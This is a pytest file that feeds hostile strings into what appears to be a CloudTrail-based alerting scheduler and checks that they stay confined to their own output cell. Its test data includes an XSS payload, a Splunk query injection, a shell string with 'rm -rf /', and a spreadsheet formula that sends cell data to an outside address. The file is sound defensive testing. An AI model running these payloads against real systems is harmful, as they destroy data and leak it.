"""Text that publishers and callers choose is text in an alert, and nothing else."""

from __future__ import annotations

import pytest

from tests.baseline.conftest import START, Company, role

from .conftest import DAY, HIGH, Scheduler

HOSTILE = {
    "html": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "spl": '" OR 1=1 | delete | sendemail to=x@example.org [ | rest /services/x ] `cloudtrail_index`',
    "shell": "$(touch x); `touch x` && rm -rf / | sh #",
    "formula": '=HYPERLINK("http://192.0.2.1/?"&A1,"click")',
    "ansi": "\x1b]0;title\x07\x1b[31mred\x1b[0m\r\nnext line",
    "token": "$result.caller$ $env:user$ {{7*7}} %USERPROFILE%",
}


@pytest.mark.parametrize("kind", HOSTILE)
def test_hostile_text_changes_nothing_but_its_own_cell(company: Company, kind: str) -> None:
    text = HOSTILE[kind]
    one_line = " ".join(text.split())
    company.listed(("203.0.113.9/32", "tor_list", "tor", "80", one_line.replace("|", "/")))
    for number, (agent, session) in enumerate([(text, "s"), ("aws-cli/2.15.0 x", text)]):
        who = role("deploy", session=session)
        event = company.call(
            30, who, text if number else "s3:GetObject", sourceIPAddress="203.0.113.9", userAgent=agent, errorCode=text,
            awsRegion=text, eventID=f"{text}{number}", delay=60, **{"userIdentity.accessKeyId": text},
        )  # fmt: skip
        company.history.append(event)
    rows = Scheduler(company, shuffle=2).rows(HIGH, START + 30 * DAY + 300)

    (row,) = rows
    assert (row["caller"], row["calls"], row["refused"]) == ("arn:aws:iam::111122223333:role/deploy", 2, 2)
    for name, value in row.items():
        assert isinstance(value, (str, int)), name
        assert not [character for character in str(value) if ord(character) < 32 or ord(character) == 127], name
        assert str(value)[:1] not in ("=", "+", "@", "-") or not str(value)[1:], name
